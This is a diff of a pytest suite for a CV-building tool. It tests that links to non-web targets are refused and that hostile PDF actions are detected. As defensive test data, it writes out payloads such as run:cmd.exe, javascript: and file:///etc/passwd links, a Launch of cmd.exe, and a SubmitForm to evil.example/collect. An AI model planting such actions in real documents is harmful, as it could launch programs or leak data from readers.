@@ -149,7 +149,9 @@ def cv_with(folder: Path, value: str) -> Path:
 @pytest.mark.parametrize("value, words", [
     ("x" * 1000, ["a word of 1,000 characters", "at most 300"]),
     ("Ё" * 400 + " ok", ["a word of 400 characters"]),
-    ("https://example.org/" + "a" * 5000, ["a word of 5,020 characters"]),
+    ("https://example.org/" + "a" * 5000, ["a web address of 5,020 characters", "at most 600"]),
+    ("see https://example.org/" + "a-" * 400, ["a web address of 820 characters"]),
+    ("x-" + "ж" * 350, ["a word of 350 characters"]),
     ("1" * 4300, ["a number of 4,300 characters"]),
     ("-" + "9" * 10_000, ["a number of 10,001 characters"]),
     ("1." + "5" * 500, ["a number of 502 characters"]),
@@ -315,3 +317,137 @@ def test_every_text_step_is_linear(name):
         else:
             slow.append(f"{unit!r} × {n}: {ratio:.1f}")
     assert not slow, slow
+
+
+# ------------------------------------------------------------------ links and actions
+
+
+@pytest.mark.parametrize("target", [
+    "run:cmd.exe", "/etc/passwd", "../secret.pdf", "C:/Windows/system32/calc.exe",
+    "ftp://example.org/x", "launch:x", "#section", "smb://host/share",
+    "Run:CMD.EXE", "example.org", "x.png",
+])
+def test_a_link_that_is_not_web_mail_or_phone_is_refused_at_its_field(tmp_path, target):
+    write_cv(tmp_path, ru="текст", en=f"see [this]({target}) now")
+    result = run("tex", cwd=tmp_path)
+    refused(result, "cv.yaml:13:15:", "sections[0].entries[0].text.en",
+            "is not a web, e-mail or phone address")
+    assert not (tmp_path / "build").exists()
+
+
+def test_targets_markdown_never_links_print_as_text(tmp_path):
+    """markdown-it makes no link of javascript:, vbscript:, file: or data: targets:
+    the text is printed as typed, and there is no \\href in the .tex."""
+    targets = ["javascript:alert(1)", "vbscript:x", "file:///etc/passwd", "data:text/html,x"]
+    write_cv(tmp_path, ru="а", en=" ".join(f"[t]({t})" for t in targets))
+    result = run("tex", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    tex = (tmp_path / "build" / "Anna_Smirnova_CV_en.tex").read_text(encoding="utf-8")
+    assert "\\href" not in tex.split("\\begin{document}")[1]
+
+
+def test_web_mail_and_phone_links_stay_links(tmp_path):
+    write_cv(tmp_path, ru="[сайт](HTTPS://example.org)",
+             en="[a](https://example.org) [b](mailto:a@example.org) [c](tel:+79001234567) "
+                "[d](http://example.org)")
+    result = run("tex", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    tex = (tmp_path / "build" / "Anna_Smirnova_CV_en.tex").read_text(encoding="utf-8")
+    for href in ("https://example.org", "mailto:a@example.org", "tel:+79001234567"):
+        assert "\\href{" + href + "}" in tex
+
+
+def test_markup_never_links_a_refused_target():
+    """A theme may run `md` on text validation never saw: the words, no link."""
+    from cvbuild.render.latex import markup
+
+    out = markup("[open](run:cmd.exe) and [read](/etc/passwd) [ok](https://e.org)", "en")
+    assert out.count("\\href") == 1 and "run:" not in out and "/etc/passwd" not in out
+    assert "open" in out and "read" in out
+
+
+def _with_actions(source: Path, target: Path, kind: str) -> None:
+    """A copy of a good PDF with one hostile action of `kind` added."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        TextStringObject,
+    )
+
+    def action(s: str, **entries) -> DictionaryObject:
+        d = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
+                              NameObject("/S"): NameObject(s)})
+        for k, v in entries.items():
+            d[NameObject("/" + k)] = TextStringObject(v)
+        return d
+
+    writer = PdfWriter(clone_from=PdfReader(source))
+    page = writer.pages[0]
+    made = {
+        "Launch": action("/Launch", F="cmd.exe"),
+        "GoToR": action("/GoToR", F="/etc/passwd"),
+        "JavaScript": action("/JavaScript", JS="app.alert(1)"),
+        "SubmitForm": action("/SubmitForm", F="https://evil.example/collect"),
+        "ImportData": action("/ImportData", F="data.fdf"),
+        "GoToE": action("/GoToE", F="x.pdf"),
+    }
+    if kind == "OpenAction":
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(made["JavaScript"])
+    elif kind == "AA":
+        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): made["Launch"]})
+    else:
+        link = DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(9), FloatObject(9)]),
+            NameObject("/A"): made[kind],
+        })
+        annots = page.get("/Annots")
+        annots = annots.get_object() if annots is not None else ArrayObject()
+        annots.append(writer._add_object(link))
+        page[NameObject("/Annots")] = annots
+    with target.open("wb") as f:
+        writer.write(f)
+
+
+@pytest.fixture(scope="module")
+def good_build(tex, tmp_path_factory) -> tuple[Path, Path]:
+    folder = tmp_path_factory.mktemp("good")
+    write_cv(folder, ru="Сайт: [пример](https://example.org)", en="Site: [example](https://example.org)")
+    result = run("pdf", cwd=folder)
+    assert result.returncode == 0, result.stderr
+    return folder, folder / "build" / "Anna_Smirnova_CV_en.pdf"
+
+
+@pytest.mark.parametrize("kind", ["Launch", "GoToR", "JavaScript", "SubmitForm",
+                                  "ImportData", "GoToE", "OpenAction", "AA"])
+def test_check_reports_every_action_but_a_web_link(good_build, tmp_path, kind):
+    folder, good = good_build
+    before = run("check", str(good), "--cv", str(folder / "cv.yaml"), cwd=folder)
+    assert "actions:" not in before.stdout and "(en)" in before.stdout, before.stdout
+    bad = tmp_path / good.name
+    _with_actions(good, bad, kind)
+    result = run("check", str(bad), "--cv", str(folder / "cv.yaml"), cwd=folder)
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    said = [line for line in result.stdout.splitlines() if "actions:" in line]
+    assert said, result.stdout
+    want = {"OpenAction": "/JavaScript", "AA": "/Launch"}.get(kind, "/" + kind)
+    assert any(want in line for line in said), said
+
+
+def test_a_theme_that_writes_a_launch_link_is_caught_by_check(good_build, tmp_path):
+    """A local theme can write \\href{run:…} itself, past any validation of cv.yaml:
+    `cvbuild check` (CI's step after the build) is what says so."""
+    folder, _ = good_build
+    shutil.copy(folder / "cv.yaml", tmp_path / "cv.yaml")
+    theme = local_theme(tmp_path)
+    template = theme / "cv.tex.j2"
+    text = template.read_text(encoding="utf-8")
+    template.write_text(text.replace("\\end{document}", "\\href{run:calc.exe}{x}\\end{document}"),
+                        encoding="utf-8")
+    assert run("pdf", cwd=tmp_path).returncode == 0
+    result = run("check", "--cv", "cv.yaml", cwd=tmp_path)
+    assert result.returncode == 1
+    assert "a /Launch action" in result.stdout, result.stdout
